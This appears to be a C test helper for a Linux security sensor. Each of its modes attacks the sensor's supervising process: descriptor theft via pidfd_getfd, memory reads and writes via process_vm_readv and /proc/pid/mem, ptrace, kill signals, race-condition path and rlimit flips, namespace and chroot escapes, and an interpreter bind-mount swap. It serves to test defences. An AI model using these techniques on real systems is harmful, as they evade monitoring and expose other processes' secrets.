/* Attacks on the sensor's supervisor and on its view of the workload, one per mode. Every
 * success prints a line starting with "LEAK:" or the secret/marker it reached, so the test
 * judges the attack by its effect. Output goes through write(2), which is never notified. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>
#include <linux/sched.h>

#ifndef CLONE_UNTRACED
#define CLONE_UNTRACED 0x00800000
#endif

static void say(const char *s) {
    if (write(1, s, strlen(s)) < 0) _exit(3);
}

static void sayf(const char *fmt, long v) {
    char b[128];
    snprintf(b, sizeof b, fmt, v);
    say(b);
}

/* A path buffer another thread flips between two names of the same length, eight bytes at
 * a time (one store), so every read sees one whole name. */
static volatile uint64_t flip_word;
static volatile int flip_stop;
static uint64_t flip_names[2];

static void *flipper(void *unused) {
    (void)unused;
    while (!flip_stop) {
        flip_word = flip_names[1];
        flip_word = flip_names[0];
    }
    return 0;
}

/* The same flip on a limit: flip_names[0] and [1] stored in turn at `arg`. */
static void *flipper_rlimit(void *arg) {
    volatile rlim_t *p = arg;
    while (!flip_stop) {
        *p = flip_names[1];
        *p = flip_names[0];
    }
    return 0;
}

static int target(const char *arg) {
    return !strcmp(arg, "ppid") ? (int)getppid() : atoi(arg);
}

/* The first readable mapping of pid, or 0 when its maps cannot be read. */
static unsigned long readable_addr(int pid) {
    char p[64], line[512];
    snprintf(p, sizeof p, "/proc/%d/maps", pid);
    FILE *f = fopen(p, "r");
    if (!f) return 0;
    unsigned long a = 0, b;
    char perms[8];
    while (fgets(line, sizeof line, f))
        if (sscanf(line, "%lx-%lx %4s", &a, &b, perms) == 3 && perms[0] == 'r') break;
    fclose(f);
    return a;
}

static void dump(const char *path) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        sayf("open failed: errno %ld\n", errno);
        return;
    }
    char b[256];
    ssize_t n = read(fd, b, sizeof b - 1);
    if (n > 0) {
        b[n] = 0;
        say(b);
    }
    close(fd);
}

static void *openmap(void *path) {
    for (int i = 0; i < 100; i++) {
        int fd = open((const char *)path, O_RDONLY);
        if (fd < 0) continue;
        void *p = mmap(0, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
        if (p != MAP_FAILED) munmap(p, 4096);
        close(fd);
    }
    return 0;
}

static void untraced_child(const char *marker) {
    execl("/bin/echo", "echo", marker, (char *)0);
    _exit(127);
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    const char *m = argv[1];
    /* Run outside tsem: can this user create user namespaces at all? */
    if (!strcmp(m, "userns_probe")) return unshare(CLONE_NEWUSER) == 0 ? 0 : 4;
    if (!strcmp(m, "noop")) {
        say("ok\n");
        return 0;
    }
    if (!strcmp(m, "pidfd") && argc == 3) {
        int pid = target(argv[2]);
        int pfd = syscall(SYS_pidfd_open, pid, 0);
        if (pfd < 0) {
            sayf("pidfd_open: errno %ld\n", errno);
            return 0;
        }
        for (int fd = 0; fd < 256; fd++) {
            int got = syscall(SYS_pidfd_getfd, pfd, fd, 0);
            if (got >= 0) sayf("LEAK:fd %ld\n", fd);
        }
        return 0;
    }
    if (!strcmp(m, "vm") && argc == 3) {
        int pid = target(argv[2]);
        unsigned long a = readable_addr(pid);
        char buf[16];
        struct iovec l = {buf, sizeof buf}, r = {(void *)(a ? a : 0x10000), sizeof buf};
        ssize_t n = process_vm_readv(pid, &l, 1, &r, 1, 0);
        if (n > 0) sayf("LEAK:vm %ld bytes\n", n);
        else sayf("process_vm_readv: errno %ld\n", errno);
        /* Writing back what was read changes nothing but proves write access. */
        if (n > 0 && process_vm_writev(pid, &l, 1, &r, 1, 0) > 0) say("LEAK:vmwrite\n");
        return 0;
    }
    if (!strcmp(m, "mem") && argc == 3) {
        int pid = target(argv[2]);
        char p[64];
        snprintf(p, sizeof p, "/proc/%d/mem", pid);
        int fd = open(p, O_RDONLY);
        if (fd < 0) {
            sayf("open mem: errno %ld\n", errno);
            return 0;
        }
        say("LEAK:memfd\n");
        char buf[16];
        unsigned long a = readable_addr(pid);
        if (a && pread(fd, buf, sizeof buf, (off_t)a) > 0) say("LEAK:mem\n");
        return 0;
    }
    /* The supervisor's descriptors reopened through magic links: directly, and through a
     * magic link of our own /proc entry followed by the supervisor's /proc. Our own links
     * must keep working. */
    if (!strcmp(m, "magic") && argc == 3) {
        int pid = target(argv[2]), me = getpid();
        char p[128];
        for (int fd = 0; fd < 64; fd++) {
            const char *fmt[] = {"/proc/%d/fd/%d", "/proc/%d/root/proc/%d/fd/%d"};
            for (int k = 0; k < 2; k++) {
                if (k == 0) snprintf(p, sizeof p, fmt[0], pid, fd);
                else snprintf(p, sizeof p, fmt[1], me, pid, fd);
                int f = open(p, O_RDONLY);
                if (f >= 0) {
                    say("LEAK:magic ");
                    say(p);
                    say("\n");
                    close(f);
                }
            }
        }
        int a = open("/dev/stdin", O_RDONLY), b = open("/proc/self/fd/1", O_WRONLY);
        snprintf(p, sizeof p, "/proc/%d/root/dev/null", me);
        int c = open(p, O_RDONLY);
        if (a >= 0 && b >= 0 && c >= 0) say("ok-self\n");
        else sayf("own links: errno %ld\n", errno);
        return 0;
    }
    if (!strcmp(m, "ptrace") && argc == 3) {
        int pid = target(argv[2]);
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
            say("LEAK:ptrace\n");
            ptrace(PTRACE_DETACH, pid, 0, 0);
        } else {
            sayf("ptrace: errno %ld\n", errno);
        }
        return 0;
    }
    if (!strcmp(m, "stop") && argc == 3) {
        int pid = !strcmp(argv[2], "group") ? 0 : target(argv[2]);
        if (kill(pid, SIGSTOP) == 0) say("LEAK:stop\n");
        else sayf("kill: errno %ld\n", errno);
        return 0;
    }
    if (!strcmp(m, "pidsig") && argc == 3) {
        int pid = target(argv[2]);
        int pfd = syscall(SYS_pidfd_open, pid, 0);
        if (pfd < 0) {
            sayf("pidfd_open: errno %ld\n", errno);
            return 0;
        }
        if (syscall(SYS_pidfd_send_signal, pfd, SIGKILL, 0, 0) == 0) say("LEAK:pidsig\n");
        return 0;
    }
    /* utimes on a path another thread flips between a name the model allows and one it does
     * not (both of at most 7 bytes), 20000 times. The raw utimes(2): glibc's utimes is
     * utimensat. */
    if (!strcmp(m, "flip_utimes") && argc == 5) {
        struct timeval tv[2] = {{1000000000, 0}, {1000000000, 0}};
        if (strlen(argv[2]) > 7 || strlen(argv[3]) > 7) return 2;
        memcpy(&flip_names[0], argv[2], strlen(argv[2]));
        memcpy(&flip_names[1], argv[3], strlen(argv[3]));
        flip_word = flip_names[0];
        if (!strcmp(argv[4], "learn")) {
            sayf("utimes: %ld\n", syscall(SYS_utimes, (const char *)&flip_word, tv));
            return 0;
        }
        pthread_t t;
        pthread_create(&t, 0, flipper, 0);
        long refused = 0, done = 0;
        for (long i = 0; i < 20000; i++) {
            if (syscall(SYS_utimes, (const char *)&flip_word, tv) == 0) done++;
            else if (errno == EPERM) refused++;
        }
        flip_stop = 1;
        pthread_join(t, 0);
        sayf("refused %ld\n", refused);
        sayf("done %ld\n", done);
        return 0;
    }
    /* setrlimit(RLIMIT_NOFILE) with a soft limit another thread flips between the modeled
     * 100 and the unmodeled 50, 20000 times: a limit of 50 must never be applied. */
    if (!strcmp(m, "flip_rlimit") && argc == 3) {
        static volatile struct rlimit lim;
        struct rlimit cur;
        getrlimit(RLIMIT_NOFILE, &cur);
        lim.rlim_max = cur.rlim_max;
        lim.rlim_cur = 100;
        if (!strcmp(argv[2], "learn")) {
            sayf("setrlimit: %ld\n", setrlimit(RLIMIT_NOFILE, (const struct rlimit *)&lim));
            return 0;
        }
        flip_names[0] = 100;
        flip_names[1] = 50;
        pthread_t t;
        pthread_create(&t, 0, flipper_rlimit, (void *)&lim.rlim_cur);
        long refused = 0, leaked = 0;
        for (long i = 0; i < 20000; i++) {
            if (setrlimit(RLIMIT_NOFILE, (const struct rlimit *)&lim) != 0) {
                if (errno == EPERM) refused++;
                continue;
            }
            getrlimit(RLIMIT_NOFILE, &cur);
            if (cur.rlim_cur == 50) leaked++;
        }
        flip_stop = 1;
        pthread_join(t, 0);
        if (leaked) sayf("LEAK:rlimit %ld\n", leaked);
        sayf("refused %ld\n", refused);
        return 0;
    }
    /* An xattr set through setxattrat(2) (Linux 6.13), another number for inode_setxattr. */
    if (!strcmp(m, "setxattrat") && argc == 3) {
        const char v[] = "evil";
        struct { uint64_t value; uint32_t size, flags; } args = {(uintptr_t)v, 4, 0};
        if (syscall(463, AT_FDCWD, argv[2], 0, "user.tsem", &args, sizeof args) == 0)
            say("LEAK:setxattrat\n");
        else sayf("setxattrat: errno %ld\n", errno);
        return 0;
    }
    /* A /proc/<pid> directory taken as a pidfd (the kernel accepts one). */
    if (!strcmp(m, "procsig") && argc == 3) {
        char p[64];
        snprintf(p, sizeof p, "/proc/%d", target(argv[2]));
        int dfd = open(p, O_RDONLY | O_DIRECTORY);
        if (dfd < 0) {
            sayf("open pid dir: errno %ld\n", errno);
            return 0;
        }
        if (syscall(SYS_pidfd_send_signal, dfd, SIGKILL, 0, 0) == 0) say("LEAK:procsig\n");
        else sayf("pidfd_send_signal: errno %ld\n", errno);
        return 0;
    }
    /* A parent stealing what its child holds: the child reads a secret into memory and keeps
     * the descriptor; the parent takes the descriptor (pidfd_getfd) and reads the memory
     * (process_vm_readv). "learn" runs the child alone. */
    if (!strcmp(m, "steal") && argc == 4) {
        static char buf[64];
        int up[2], down[2];
        if (pipe(up) || pipe(down)) return 2;
        pid_t c = fork();
        if (c == 0) {
            int fd = open(argv[2], O_RDONLY);
            if (fd < 0 || read(fd, buf, sizeof buf - 1) <= 0) _exit(4);
            if (write(up[1], &fd, sizeof fd) != sizeof fd) _exit(5);
            char x;
            if (read(down[0], &x, 1) < 0) _exit(6);
            _exit(0);
        }
        int fd = -1;
        if (read(up[0], &fd, sizeof fd) != sizeof fd) return 2;
        if (!strcmp(argv[3], "attack")) {
            char got[64] = {0};
            int pfd = syscall(SYS_pidfd_open, c, 0);
            int s = pfd < 0 ? -1 : syscall(SYS_pidfd_getfd, pfd, fd, 0);
            if (s >= 0 && pread(s, got, sizeof got - 1, 0) > 0) {
                say("LEAK:getfd ");
                say(got);
            } else {
                sayf("pidfd_getfd: errno %ld\n", errno);
            }
            memset(got, 0, sizeof got);
            struct iovec l = {got, sizeof got - 1}, r = {buf, sizeof got - 1};
            if (syscall(SYS_process_vm_readv, c, &l, 1, &r, 1, 0) > 0) {
                say("LEAK:vm ");
                say(got);
            } else {
                sayf("process_vm_readv: errno %ld\n", errno);
            }
        }
        if (write(down[1], "x", 1) != 1) return 2;
        int st;
        waitpid(c, &st, 0);
        sayf("child status %ld\n", WIFEXITED(st) ? WEXITSTATUS(st) : -1);
        return 0;
    }
    if (!strcmp(m, "untraced") && argc == 3) {
        struct clone_args ca;
        memset(&ca, 0, sizeof ca);
        ca.flags = CLONE_UNTRACED;
        ca.exit_signal = SIGCHLD;
        long c = syscall(SYS_clone3, &ca, sizeof ca);
        if (c == 0) untraced_child(argv[2]);
        if (c > 0) waitpid((pid_t)c, 0, 0);
        else sayf("clone3: errno %ld\n", errno);
        c = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
        if (c == 0) untraced_child(argv[2]);
        if (c > 0) waitpid((pid_t)c, 0, 0);
        else sayf("clone: errno %ld\n", errno);
        return 0;
    }
    /* Credentials that differ from the supervisor's (a new user namespace has every
     * capability), then a read the model never saw. */
    if (!strcmp(m, "userns_read") && argc == 3) {
        if (unshare(CLONE_NEWUSER) != 0) {
            sayf("unshare: errno %ld\n", errno);
            return 4;
        }
        dump(argv[2]);
        return 0;
    }
    /* Credentials that differ from the supervisor's, then an entry appended to a file. */
    if (!strcmp(m, "userns_append") && argc == 4) {
        if (unshare(CLONE_NEWUSER) != 0) {
            sayf("unshare: errno %ld\n", errno);
            return 4;
        }
        int fd = open(argv[2], O_WRONLY | O_APPEND);
        if (fd < 0) {
            sayf("open for append: errno %ld\n", errno);
            return 0;
        }
        if (write(fd, argv[3], strlen(argv[3])) > 0) say("LEAK:appended\n");
        return 0;
    }
    /* Another root, then a read the model never saw, named relative to that root. */
    if (!strcmp(m, "chroot_read") && argc == 4) {
        if (unshare(CLONE_NEWUSER) != 0 || chroot(argv[2]) != 0 || chdir("/") != 0) {
            sayf("chroot: errno %ld\n", errno);
            return 4;
        }
        dump(argv[3]);
        return 0;
    }
    /* Map a file just opened, from four threads at once: a notification thread may see the
     * mmap before the one that answered the open has recorded what it opened. */
    if (!strcmp(m, "openmap") && argc == 3) {
        pthread_t t[4];
        for (int i = 0; i < 4; i++) pthread_create(&t[i], 0, openmap, argv[2]);
        for (int i = 0; i < 4; i++) pthread_join(t[i], 0);
        say("mapped\n");
        return 0;
    }
    /* An unnamed file in the current directory (its path would carry the inode number). */
    if (!strcmp(m, "tmpfile")) {
        int fd = open(".", O_TMPFILE | O_RDWR, 0600);
        if (fd < 0 || write(fd, "x", 1) != 1) {
            sayf("O_TMPFILE: errno %ld\n", errno);
            return 4;
        }
        say("tmpfile\n");
        return 0;
    }
    /* In a mount namespace of our own, put SRC where the ELF interpreter DST of PROG is
     * expected, then run PROG: the path the supervisor reads in /proc/<pid>/maps names
     * another file than the one mapped. */
    if (!strcmp(m, "interp") && argc == 5) {
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0 ||
            mount(0, "/", 0, MS_REC | MS_PRIVATE, 0) != 0 ||
            mount(argv[2], argv[3], 0, MS_BIND, 0) != 0) {
            sayf("mount: errno %ld\n", errno);
            return 4;
        }
        pid_t c = fork();
        if (c == 0) {
            execl(argv[4], argv[4], (char *)0);
            _exit(127);
        }
        int st = 0;
        waitpid(c, &st, 0);
        sayf("status %ld\n", st);
        return 0;
    }
    return 2;
}
